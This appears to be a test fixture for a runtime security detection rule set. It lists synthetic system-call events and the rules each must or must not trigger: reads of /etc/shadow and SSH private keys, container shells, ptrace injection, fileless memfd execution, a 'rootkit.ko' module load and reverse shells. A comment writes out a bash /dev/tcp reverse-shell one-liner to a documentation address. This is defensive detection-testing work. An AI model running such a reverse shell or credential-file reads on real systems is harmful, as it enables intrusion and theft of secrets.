# SPDX-License-Identifier: Apache-2.0
# Tests each rule of rules/saker_rules.yaml: events that it must match, and events that it must not.

# A host with a login, a container and user names.
host hostname=web1 boot_id=6f1c-boot release=6.1.0
user uid=0 gid=0 name=root home=/root shell=/bin/bash
user uid=1000 gid=1000 name=alice home=/home/alice shell=/bin/bash
group gid=0 name=root
cgroup_mkdir id=1 path=/
cgroup_mkdir id=20 path=/user.slice
cgroup_mkdir id=30 path=/system.slice/docker-3ad7b26ded6d8e7b23da7d48fe889434573036c27ae5a74837233de441c3601e.scope
task tid=1 group_start_ns=1000000 ppid=0 sid=1 pgid=1 vpid=1 vtid=1 comm=systemd exe=/usr/lib/systemd/systemd argv=/sbin/init cgroup=1 loginuid=4294967295
task tid=100 group_start_ns=100000000 ppid=1 sid=100 pgid=100 vpid=100 vtid=100 uid=1000 euid=1000 gid=1000 egid=1000 comm=bash exe=/usr/bin/bash argv=-bash cwd=/home/alice cgroup=20 loginuid=1000 tty=34816

# ---- Sensitive file read by unexpected program
clone tid=100 res=101 child_tid=101 child_tgid=101 child_ppid=100 child_start_ns=101000000 child_vtid=101 child_vpid=101 comm=bash cgroup=20 child_cgroup_id=20
execve tid=101 ppid=100 pgid=101 sid=100 vtid=101 vpid=101 vpgid=101 uid=0 euid=0 loginuid=1000 tty=34816 comm=cat exe=/usr/bin/cat filename=/bin/cat argv="cat|/tmp/notes.txt" cwd=/home/alice stdin_fd=char stdout_fd=char cgroup=20
openat tid=101 res=3 dirfd=-100 flags=O_RDONLY kind=file path=/etc/shadow name=/tmp/notes.txt dev=2049 ino=77 cgroup=20 => Sensitive file read by unexpected program
@text 22:30:00.018000000: Warning cat read the sensitive file /etc/shadow (opened as /tmp/notes.txt): user=root login=1000 exe=/usr/bin/cat command=cat /tmp/notes.txt parent=bash parent_command=bash terminal=34816 container=host
openat tid=101 res=3 dirfd=-100 flags=O_RDWR path=/etc/gshadow name=/etc/gshadow cgroup=20 => Sensitive file read by unexpected program
# not opened; opened only for writing (matched by another rule); other files
openat tid=101 res=-13 dirfd=-100 flags=O_RDONLY name=/etc/shadow cgroup=20
openat tid=101 res=3 dirfd=-100 flags=O_RDONLY path=/etc/passwd name=/etc/passwd cgroup=20
openat tid=101 res=3 dirfd=-100 flags=O_RDONLY path=/home/alice/shadow name=shadow cgroup=20
# private keys, but not public ones
openat tid=101 res=3 dirfd=-100 flags=O_RDONLY path=/home/alice/.ssh/id_ed25519 name=.ssh/id_ed25519 cgroup=20 => Sensitive file read by unexpected program
openat tid=101 res=3 dirfd=-100 flags=O_RDONLY path=/home/alice/.ssh/id_ed25519.pub name=.ssh/id_ed25519.pub cgroup=20
openat tid=101 res=3 dirfd=-100 flags=O_RDONLY path=/etc/ssh/ssh_host_rsa_key name=/etc/ssh/ssh_host_rsa_key cgroup=20 => Sensitive file read by unexpected program
# an expected program, and a copy of cat with its name
execve tid=101 ppid=100 comm=passwd exe=/usr/bin/passwd argv=passwd cgroup=20
openat tid=101 res=3 dirfd=-100 flags=O_RDONLY path=/etc/shadow name=/etc/shadow cgroup=20
openat tid=101 res=3 dirfd=-100 flags=O_RDONLY path=/root/.ssh/id_rsa name=/root/.ssh/id_rsa cgroup=20 => Sensitive file read by unexpected program
execve tid=101 ppid=100 comm=passwd exe=/tmp/passwd argv=passwd cgroup=20
openat tid=101 res=3 dirfd=-100 flags=O_RDONLY path=/etc/shadow name=/etc/shadow cgroup=20 => Sensitive file read by unexpected program
execve tid=101 ppid=100 comm=ssh exe=/usr/bin/ssh argv=ssh|host cgroup=20
openat tid=101 res=3 dirfd=-100 flags=O_RDONLY path=/home/alice/.ssh/id_ed25519 name=.ssh/id_ed25519 cgroup=20

# ---- Shell in a container
execve tid=300 start=300000000 ppid=1 vpid=12 vtid=12 comm=sh exe=/bin/busybox argv=sh tty=34817 stdin_fd=char stdout_fd=char cgroup=30 => Shell in a container
@container.id = 3ad7b26ded6d
@container.type = docker
execve tid=301 start=301000000 ppid=1 comm=sh exe=/bin/busybox argv=sh|-c|true tty=0 stdin_fd=pipe stdout_fd=pipe cgroup=30
execve tid=302 start=302000000 ppid=1 comm=nginx exe=/usr/sbin/nginx argv=nginx tty=34817 stdin_fd=char stdout_fd=char cgroup=30
execve tid=303 start=303000000 ppid=100 comm=bash exe=/usr/bin/bash argv=bash tty=34817 stdin_fd=char stdout_fd=char cgroup=20

# ---- Write below etc
execve tid=400 start=400000000 ppid=100 comm=vim exe=/usr/bin/vim argv=vim|/etc/cron.d/x cgroup=20
openat tid=400 res=4 dirfd=-100 flags=O_WRONLY|O_CREAT kind=file path=/etc/cron.d/x name=/etc/cron.d/x mode=0644 cgroup=20 => Write below etc
creat tid=400 res=4 dirfd=-100 kind=file path=/etc/x name=/etc/x mode=0644 cgroup=20 => Write below etc
openat tid=400 res=4 dirfd=-100 flags=O_RDONLY kind=file path=/etc/cron.d/x name=/etc/cron.d/x cgroup=20
openat tid=400 res=-13 dirfd=-100 flags=O_WRONLY name=/etc/cron.d/x cgroup=20
openat tid=400 res=4 dirfd=-100 flags=O_WRONLY kind=file path=/home/alice/etc/x name=etc/x cgroup=20
openat tid=400 res=4 dirfd=-100 flags=O_WRONLY kind=file path=/etcetera name=/etcetera cgroup=20
openat tid=400 res=4 dirfd=-100 flags=O_WRONLY kind=file path=/etc/mtab name=/etc/mtab cgroup=20
# the script of a package manager, and a tool that maintains accounts
execve tid=401 start=401000000 ppid=100 comm=dpkg exe=/usr/bin/dpkg argv=dpkg|-i|x.deb cgroup=20
execve tid=402 start=402000000 ppid=401 comm=sh exe=/usr/bin/dash argv=sh|x.postinst cgroup=20
openat tid=402 res=4 dirfd=-100 flags=O_WRONLY kind=file path=/etc/x.conf name=/etc/x.conf cgroup=20
execve tid=403 start=403000000 ppid=100 comm=useradd exe=/usr/sbin/useradd argv=useradd|bob cgroup=20
openat tid=403 res=4 dirfd=-100 flags=O_RDWR kind=file path=/etc/shadow name=/etc/shadow cgroup=20

# ---- Ptrace injection
execve tid=500 start=500000000 ppid=100 comm=inject exe=/tmp/inject argv=inject|1 cgroup=20
ptrace tid=500 res=0 request=PTRACE_ATTACH pid=1 target=1 cgroup=20 => Ptrace injection
ptrace tid=500 res=0 request=PTRACE_POKETEXT pid=1 target=1 cgroup=20 => Ptrace injection
ptrace tid=500 res=0 request=PTRACE_SETREGSET pid=1 target=1 cgroup=20 => Ptrace injection
@evt.arg.request = PTRACE_SETREGSET
ptrace tid=500 res=-1 request=PTRACE_ATTACH pid=1 cgroup=20
ptrace tid=500 res=0 request=PTRACE_TRACEME cgroup=20
ptrace tid=500 res=0 request=PTRACE_PEEKTEXT pid=1 cgroup=20
execve tid=501 start=501000000 ppid=100 comm=gdb exe=/usr/bin/gdb argv=gdb|-p|1 cgroup=20
ptrace tid=501 res=0 request=PTRACE_ATTACH pid=1 cgroup=20

# ---- Memory written into another process
process_vm_writev tid=500 res=4096 pid=1 target=1 cgroup=20 => Memory written into another process
process_vm_writev tid=500 res=-1 pid=1 cgroup=20
process_vm_writev tid=500 res=0 pid=1 cgroup=20
process_vm_writev tid=501 res=8 pid=1 cgroup=20

# ---- Fileless execution
execveat tid=600 start=600000000 ppid=100 comm=3 exe="/memfd:update (deleted)" exe_flags=MEMFD argv=kworker/0:1|--nothing cgroup=20 => Fileless execution
@proc.exepath = memfd:update
@proc.is_exe_from_memfd = true
@proc.exe = kworker/0:1
@proc.cmdline = 3 --nothing
execve tid=601 start=601000000 ppid=100 comm=ls exe=/usr/bin/ls argv=ls cgroup=20
execveat tid=602 start=602000000 ppid=100 res=-13 comm=3 exe="/memfd:update (deleted)" exe_flags=MEMFD argv=x cgroup=20
# runc's copy of itself, started by its shim, and another program with the same name
execve tid=603 start=603000000 ppid=1 comm=containerd-shim exe=/usr/bin/containerd-shim-runc-v2 argv=containerd-shim cgroup=1
execveat tid=604 start=604000000 ppid=603 comm=runc:[2:INIT] exe="/memfd:runc_cloned:/proc/self/exe (deleted)" exe_flags=MEMFD argv=runc|init cgroup=1
execveat tid=605 start=605000000 ppid=100 comm=x exe="/memfd:runc_cloned:/proc/self/exe (deleted)" exe_flags=MEMFD argv=runc|init cgroup=20 => Fileless execution

# ---- Kernel module loaded
execve tid=700 start=700000000 ppid=100 comm=insmod exe=/usr/bin/kmod argv=insmod|rootkit.ko cgroup=20
finit_module tid=700 res=0 fd=3 path=/tmp/rootkit.ko params="hide=1" cgroup=20 => Kernel module loaded
@fd.name = /tmp/rootkit.ko
@evt.arg.uargs = hide=1
finit_module tid=700 res=-17 fd=3 path=/tmp/rootkit.ko cgroup=20
execve tid=701 start=701000000 ppid=1 comm=modprobe exe=/usr/bin/kmod argv=modprobe|loop cgroup=1
finit_module tid=701 res=0 fd=3 path=/lib/modules/6.1.0/kernel/drivers/block/loop.ko cgroup=1
init_module tid=701 res=0 fd=-1 image_len=4096 params="" cgroup=30 => Kernel module loaded from memory
init_module tid=701 res=0 fd=-1 image_len=4096 params="" cgroup=1

# ---- Reverse shell
execve tid=800 start=800000000 ppid=100 comm=sh exe=/usr/bin/dash argv=sh stdin_fd=tcp,10.0.0.5:40000>203.0.113.7:4444 stdout_fd=tcp,10.0.0.5:40000>203.0.113.7:4444 stderr_fd=char cgroup=20 => Reverse shell
@proc.stdin.type = ipv4
@proc.stdin.name = 10.0.0.5:40000->203.0.113.7:4444
@proc.stderr.type = file
execve tid=801 start=801000000 ppid=100 comm=sh exe=/usr/bin/dash argv=sh stdin_fd=pipe stdout_fd=tcp,10.0.0.5:40000>203.0.113.7:4444 cgroup=20
execve tid=802 start=802000000 ppid=100 comm=sh exe=/usr/bin/dash argv=sh stdin_fd=unix stdout_fd=unix cgroup=20
execve tid=799 start=799000000 ppid=1 comm=xinetd exe=/usr/sbin/xinetd argv=xinetd cgroup=1
execve tid=803 start=803000000 ppid=799 comm=sh exe=/usr/bin/dash argv=sh stdin_fd=tcp,10.0.0.5:79>203.0.113.7:4444 stdout_fd=tcp,10.0.0.5:79>203.0.113.7:4444 cgroup=1
execve tid=804 start=804000000 ppid=100 comm=nc exe=/usr/bin/nc argv=nc stdin_fd=tcp,10.0.0.5:40000>203.0.113.7:4444 stdout_fd=tcp,10.0.0.5:40000>203.0.113.7:4444 cgroup=20
# bash -i >& /dev/tcp/203.0.113.7/4444 0>&1
dup2 tid=100 res=1 oldfd=3 newfd=1 file=tcp,10.0.0.5:40001>203.0.113.7:4444 cgroup=20 => Shell turned to the network
@fd.name = 10.0.0.5:40001->203.0.113.7:4444
dup2 tid=100 res=5 oldfd=3 newfd=5 file=tcp,10.0.0.5:40001>203.0.113.7:4444 cgroup=20
dup2 tid=100 res=1 oldfd=3 newfd=1 file=file cgroup=20
dup2 tid=804 res=1 oldfd=3 newfd=1 file=tcp,10.0.0.5:40001>203.0.113.7:4444 cgroup=20
